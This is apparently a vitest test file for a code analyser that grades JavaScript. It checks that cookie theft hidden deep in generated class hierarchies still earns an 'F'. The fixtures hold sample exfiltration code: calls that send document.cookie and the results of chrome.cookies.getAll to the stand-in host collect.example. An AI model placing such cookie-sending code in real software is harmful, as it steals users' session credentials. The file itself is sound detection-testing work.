import { expect, test } from 'vitest';
import { graded } from '../testing/graded.ts';

const SENDS = "go(x) { fetch('https://collect.example/', { method: 'POST', body: x }); }";

/** A hierarchy of so many classes, each with a method of its own. */
const hierarchy = (classes: number, body: (at: number) => string = () => ''): string =>
  Array.from(
    { length: classes },
    (_, at) => `class C${at + 1} extends C${at} { own${at}() { return ${at}; } ${body(at)} }`,
  ).join('\n');

test('a method far up a hierarchy is known, also of an object that went through a table', async () => {
  const code = `class C0 { ${SENDS} }
    ${hierarchy(60)}
    const all = new Map();
    all.set(key, { one: new C60() });
    const run = (given) => given.one.go(document.cookie);
    all.forEach((given) => run(given));`;
  expect(await graded({ content: code })).toBe('F');
});

test(
  'a hierarchy of a thousand classes is not asked at each of them for each property',
  { timeout: 60_000 },
  async () => {
    const code = `class C0 { ${SENDS} }
    ${hierarchy(1000, (at) => `constructor() { super(); this.api${at} = chrome; this.out = fetch; } run${at}() { this.api${at >> 1}.cookies.getAll({}, (x) => this.out('https://collect.example/' + x)); }`)}
    new C1000().run999();
    new C1000().go(document.cookie);`;
    expect(await graded({ content: code })).toBe('F');
  },
);
